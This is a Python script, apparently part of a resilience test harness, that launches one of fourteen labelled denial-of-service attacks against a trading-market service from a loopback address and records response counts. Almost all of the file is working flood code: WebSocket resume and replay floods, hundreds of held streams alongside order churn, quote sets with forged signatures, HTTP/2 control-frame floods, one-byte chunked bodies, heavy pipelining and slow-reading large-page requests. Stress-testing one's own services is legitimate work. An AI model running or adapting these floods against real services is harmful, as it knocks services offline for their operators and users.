"""One attack at full speed from 127.0.0.2, on one core of its own.

    flood.py SITE SECONDS OUT CORE NAME

NAME is one of ATTACKS. It reads answers to count statuses. OUT gets the counts.
"""

import asyncio
import base64
import collections
import functools
import itertools
import json
import logging
import os
import struct
import sys
import time

from attacker import PING, PREFACE, SETTINGS, SOURCE, Counted, frame, raise_files_limit
from client import Client
from wallets import Wallet, body_of, moved_quotes, quote_fields, quote_set, request, signed_request

# Requests of one message: as many as a server takes.
REQUESTS = 1_000
PIPELINED = 64
# Larger than what a connection may leave unsent, so that writing waits for the server.
UNSENT = 256 << 10
PRIORITY, WINDOW_UPDATE, UNKNOWN = 2, 8, 0x77


def masked(text):
    """A text frame of a client."""
    data = text.encode()
    key = b"\0\0\0\0"  # a mask of zeros is a mask
    size = struct.pack(">BH", 0xFE, len(data)) if len(data) < 1 << 16 else struct.pack(">BQ", 0xFF, len(data))
    return b"\x81" + size + key + data


def upgrade(path):
    fields = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
    }
    return request("GET", path, fields)


class Flood(Counted):
    """A connection whose answers are counted; writing waits while much is unsent."""

    def connection_made(self, transport):
        super().connection_made(transport)
        transport.set_write_buffer_limits(high=UNSENT)
        self.writable, self.upgraded, self.changed = True, False, asyncio.Event()

    def pause_writing(self):
        self.writable = False

    def resume_writing(self):
        self.writable = True
        self.changed.set()

    def buffer_updated(self, length):
        super().buffer_updated(length)
        self.upgraded = self.upgraded or self.buffer[:length].startswith(b"HTTP/1.1 101")
        self.counts["bytes read"] += length
        self.changed.set()

    def connection_lost(self, error):
        super().connection_lost(error)
        self.changed.set()

    async def until(self, condition):
        """Waits until the condition holds; says whether the connection is open."""
        while self.open and not condition():
            self.changed.clear()
            await self.changed.wait()
        return self.open


class Attack:
    def __init__(self, site):
        self.site, self.counts = site, collections.Counter()
        self.addresses = {name: tuple(address) for name, address in site["addresses"].items()}
        self.token = site["markets"][0]["tokens"][0]

    async def connect(self, surface="trading"):
        opening = asyncio.get_running_loop().create_connection(
            lambda: Flood(self.counts), *self.addresses[surface], local_addr=(SOURCE, 0)
        )
        try:
            _, connection = await asyncio.wait_for(opening, 5)
        except OSError:
            self.counts["connections failed"] += 1
            await asyncio.sleep(0.01)
            return None
        self.counts["connections"] += 1
        return connection

    async def stream(self):
        """A stream of the market channel, or None."""
        connection = await self.connect()
        if connection is None:
            return None
        connection.transport.write(upgrade("/ws/market"))
        if not await connection.until(lambda: connection.answered) or not connection.upgraded:
            connection.transport.abort()
            return None
        return connection

    async def again(self, count, act):
        """Runs `count` tasks that act over and over, whatever becomes of their connections."""

        async def forever():
            while True:
                try:
                    await act()
                except OSError:
                    self.counts["connections failed"] += 1
                await asyncio.sleep(0)

        await asyncio.gather(*(forever() for _ in range(count)))

    async def gets(self, count, paths, surface="trading", pipelined=1, read=True):
        """Requests on `count` connections, each as soon as there is room for it."""
        numbers = itertools.count()

        async def act():
            connection = await self.connect(surface)
            if connection is None:
                return
            if not read:
                connection.transport.pause_reading()
            while await connection.until(lambda: connection.writable and connection.sent - connection.answered < pipelined):
                connection.transport.write(request("GET", paths[next(numbers) % len(paths)]))
                connection.sent += 1
                self.counts["sent"] += 1
                if not read:
                    await asyncio.sleep(1)
                    return connection.transport.abort()
                if connection.sent % 16 == 0:
                    await asyncio.sleep(0)  # so that the end of the connection is noticed

        await self.again(count, act)

    async def requests_on_streams(self):
        """Messages of 1,000 resumes each, on 20 streams."""
        client = Client(SOURCE, self.addresses["trading"])
        _, _, fields = await client.answer(request("GET", f"/book?token_id={self.token}"))
        ask = {"type": "market", "assets_ids": [self.token]}
        first = masked(json.dumps(ask))
        flood = masked(json.dumps([ask | {"resume_from": fields["x-sequence"]}] * REQUESTS))

        async def act():
            connection = await self.stream()
            if connection is None:
                return
            connection.transport.write(first)
            while await connection.until(lambda: connection.writable):
                connection.transport.write(flood)
                self.counts["sent"] += REQUESTS

        await self.again(20, act)

    async def replays(self):
        """Resumes from the first frame, of markets that nobody reads; the client leaves at once."""
        tokens = self.site["quiet"]["tokens"]
        ask = masked(json.dumps({"type": "market", "assets_ids": tokens, "resume_from": "1"}))

        async def act():
            connection = await self.stream()
            if connection is not None:
                connection.transport.write(ask)
                self.counts["sent"] += 1
                await asyncio.sleep(0.2)
                connection.transport.abort()

        await self.again(20, act)

    async def many_streams(self):
        """As many streams as there are, on one market that the attacker's orders move."""
        market, maker = self.site["quiet"], Wallet(**self.site["maker"])
        ask = masked(json.dumps({"type": "market", "assets_ids": market["tokens"]}))

        async def act():
            connection = await self.stream()
            if connection is not None:
                connection.transport.write(ask)
                self.counts["sent"] += 1
                await connection.until(lambda: False)
            await asyncio.sleep(0.1)

        async def trade():
            client = Client(SOURCE, self.addresses["trading"])
            orders = [maker.buy(market["tokens"][0], 1 + number, 500) for number in range(15)]
            await client.ask(signed_request(maker, "POST", "/orders", body_of(orders)))
            await client.ask(signed_request(maker, "DELETE", "/cancel-all"))

        await asyncio.gather(self.again(350, act), self.again(1, trade))

    async def garbage_sets(self):
        """Sets of 64 quotes that a key sends with signatures of nobody."""
        market, maker = self.site["quiet"], Wallet(**self.site["maker"])
        quotes = [(cents, 500) for cents in range(1, 65)]
        client = Client(SOURCE, self.addresses["trading"])

        async def act():
            fields = quote_fields(maker, market["condition_id"], quotes, time.time_ns() // 1_000)
            await self.send_set(client, maker, body_of({"set": fields, "signature": f"0x{os.urandom(64).hex()}1b"}))

        await self.again(8, act)

    async def send_set(self, client, wallet, body):
        """Sends a set and counts the status of its answer."""
        status = await client.status(signed_request(wallet, "POST", "/quotes", body))
        self.counts[f"status {status}"] += 1
        self.counts["sent"] += 1

    async def valid_sets(self):
        """Sets of ten quotes that all move, from eight owners with $6.40 each."""
        market = self.site["quiet"]
        owners = [Wallet(**saved) for saved in self.site["owners"]]

        async def send(owner, revisions):
            client, revision = Client(SOURCE, self.addresses["trading"]), next(revisions)
            quotes = moved_quotes(revision)
            body = quote_set(owner, self.site["quotes_domain"], market["condition_id"], quotes, revision)
            await self.send_set(client, owner, body)

        first = time.time_ns() // 1_000
        sends = [functools.partial(send, owner, itertools.count(first)) for owner in owners]
        await asyncio.gather(*(self.again(2, act) for act in sends))

    async def frames(self):
        """HTTP/2 frames that belong to no request, on as many connections as it takes."""
        kinds = [
            frame(SETTINGS, 0, 0),
            frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
            frame(PRIORITY, 0, 1, bytes(5)),
            frame(PING, 0, 0, bytes(8)),
            frame(UNKNOWN, 0, 0),
        ]
        numbers = itertools.count()

        async def act():
            connection = await self.connect()
            if connection is None:
                return
            many = kinds[next(numbers) % len(kinds)] * 2_000
            connection.transport.write(PREFACE + frame(SETTINGS, 0, 0))
            while await connection.until(lambda: connection.writable):
                connection.transport.write(many)
                self.counts["sent"] += 2_000
                await asyncio.sleep(0)

        await self.again(40, act)

    async def chunks(self):
        """Bodies in chunks of one byte."""
        head = request("POST", "/books", {"Transfer-Encoding": "chunked"}).replace(b"Content-Length: 0\r\n", b"")
        body = b"1\r\n \r\n" * 60_000 + b"0\r\n\r\n"

        async def act():
            connection = await self.connect()
            if connection is None:
                return
            while await connection.until(lambda: connection.writable):
                connection.transport.write(head + body)
                self.counts["sent"] += 1
                await asyncio.sleep(0)

        await self.again(40, act)

    def scrapes(self):
        return self.gets(8, ["/metrics"], "operator", pipelined=PIPELINED)

    def tokens(self):
        return self.gets(8, ["/status", "/markets"], "operator", pipelined=PIPELINED)

    def documents(self):
        return self.gets(8, ["/openapi.json"], pipelined=PIPELINED)

    def sorted_activity(self):
        maker = Wallet(**self.site["maker"]).address
        query = f"user={maker}&sortBy=TOKENS&sortDirection=ASC&limit=100&offset=10000"
        return self.gets(30, [f"/ui/api/data/activity?{query}"])

    def large_pages(self):
        return self.gets(300, ["/ui/api/data/trades?limit=10000&takerOnly=false"], read=False)

    def pipelined(self):
        return self.gets(8, [f"/book?token_id={self.token}"], pipelined=PIPELINED)

    async def catalog_pages(self):
        """The longest pages; every other connection leaves as soon as its page is begun."""
        paths = [f"/{kind}/keyset?limit=500" for kind in ("markets", "events")]

        async def leave():
            connection = await self.connect("catalog")
            if connection is not None:
                connection.transport.write(request("GET", paths[0]))
                self.counts["sent"] += 1
                await asyncio.sleep(0.002)
                connection.transport.abort()

        await asyncio.gather(self.gets(15, paths, "catalog"), self.again(15, leave))


ATTACKS = {
    "D1": Attack.requests_on_streams,
    "D2": Attack.sorted_activity,
    "D3": Attack.large_pages,
    "D7": Attack.pipelined,
    "D8": Attack.replays,
    "D9": Attack.catalog_pages,
    "D10": Attack.many_streams,
    "D11": Attack.garbage_sets,
    "D12": Attack.valid_sets,
    "D13": Attack.frames,
    "D14": Attack.chunks,
    "D15": Attack.scrapes,
    "D16": Attack.tokens,
    "D17": Attack.documents,
}


async def run(attack, name, seconds):
    try:
        await asyncio.wait_for(ATTACKS[name](attack), seconds)
    except TimeoutError:
        pass
    return dict(attack.counts)


def main():
    site, seconds, out, core, name = sys.argv[1:]
    os.sched_setaffinity(0, {int(core)})
    # It warns of each write to a connection that was ended meanwhile.
    logging.getLogger("asyncio").setLevel(logging.ERROR)
    raise_files_limit()
    with open(site, encoding="utf-8") as file:
        attack = Attack(json.load(file))
    counts = asyncio.run(run(attack, name, float(seconds)))
    with open(out, "w", encoding="utf-8") as file:
        json.dump({"counts": {name: counts}}, file)


if __name__ == "__main__":
    main()
